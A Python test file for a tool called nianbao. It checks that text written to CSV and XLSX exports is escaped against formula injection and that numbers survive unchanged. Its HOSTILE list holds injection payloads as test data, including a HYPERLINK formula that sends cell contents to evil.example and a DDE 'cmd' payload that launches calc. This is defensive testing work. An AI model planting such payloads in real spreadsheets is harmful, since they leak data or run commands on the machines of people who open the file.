"""Text nianbao writes into spreadsheets never becomes a live formula (CSV/XLSX injection),
numbers stay numbers, and every such file nianbao writes it reads back unchanged."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nianbao.formula_guard import FORMULA_TRIGGERS, escape_formula, unescape_formula
from nianbao.inputs import load, validate

from .conftest import CORPUS

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1", "'=already quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_dangerous_text_is_escaped_and_restored(text):
    escaped = escape_formula(text)
    assert escaped.startswith("'") and escaped != text
    assert unescape_formula(escaped) == text


@pytest.mark.parametrize("value", [-3, 2.5, 0, None, "-3", "-1,234.5", "+7", "-", "平潭县人民政府", "'plain"])
def test_numbers_and_plain_text_untouched(value):
    assert escape_formula(value) == value
    assert unescape_formula(value) == value


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r1,.%a中 ")), max_size=12))
def test_round_trip_is_exact_and_nothing_escaped_starts_a_formula(text):
    escaped = escape_formula(text)
    assert unescape_formula(escaped) == text
    if escaped != text or not text[:1] in FORMULA_TRIGGERS:
        return
    # Left alone although it starts with a trigger: only a number or a lone sign may.
    assert text.lstrip("+-").replace(",", "").replace(".", "").rstrip("%").isdigit() or text in ("+", "-")


def _formula_cells(path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _gold():
    return validate(json.loads((CORPUS / "gold" / "pingtan-2022.json").read_text(encoding="utf-8")))


def test_inspection_workbook_keeps_hostile_names_as_text(tmp_path):
    from nianbao.checks.workbook import write_workbook
    from nianbao.checks import report_from_json

    report = report_from_json(_gold())
    report.source, report.agency = HOSTILE[0], HOSTILE[3]
    path = tmp_path / "inspection.xlsx"
    write_workbook(path, [(report, [])])
    assert _formula_cells(path) == []
    row = [c.value for c in openpyxl.load_workbook(path)["报告 reports"][2]]
    assert row[0] == "'" + HOSTILE[0] and row[1] == "'" + HOSTILE[3]


def test_fill_in_workbook_escapes_text_keeps_its_own_formulas_and_reads_back(tmp_path):
    from nianbao.workbook import template

    data = _gold()
    data["agency"] = HOSTILE[0]
    data["sections"] = {"overview": "-对照表：+1 为新增", "problems": "@所有人", "other": "=无"}
    path = tmp_path / "filled.xlsx"
    path.write_bytes(template("2021", data))
    formulas = _formula_cells(path)
    assert formulas and not any(ref.startswith("基本信息") for ref in formulas)  # totals and checks only
    back = load(path)
    assert back["agency"] == HOSTILE[0] and back["sections"] == data["sections"]
    assert back["t3"] == data["t3"]


def test_cli_export_escapes_text_keeps_numbers(tmp_path):
    from nianbao.store import open_store
    from nianbao.store.export import export

    from .store_support import write_report

    data = _gold()
    data["agency"] = HOSTILE[3]
    store = open_store(tmp_path / "x.db")
    try:
        write_report(store, data, name=HOSTILE[0])
        export(store, tmp_path / "out.csv")
        export(store, tmp_path / "out.xlsx")
    finally:
        store.close()
    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8-sig")))
    header, first = rows[0], rows[1]
    assert first[header.index("source")] == "'" + HOSTILE[0]
    assert not any(v[:1] in FORMULA_TRIGGERS and not v.lstrip("-").isdigit() for r in rows[1:] for v in r)
    assert _formula_cells(tmp_path / "out.xlsx") == []
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx")["reports"]
    numbers = [c.value for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, (int, float))]
    assert numbers  # counts stay numbers


def test_parse_csv_escapes_names_keeps_values():
    from nianbao.checks import report_from_json
    from nianbao.output import reports_csv

    report = report_from_json(_gold())
    report.source, report.agency = HOSTILE[1], HOSTILE[4]
    rows = list(csv.DictReader(io.StringIO(reports_csv([report]))))
    assert rows[0]["source"] == "'" + HOSTILE[1] and rows[0]["agency"] == "'" + HOSTILE[4]
    assert any(r["value"] not in ("", "0") and r["value"].isdigit() for r in rows)
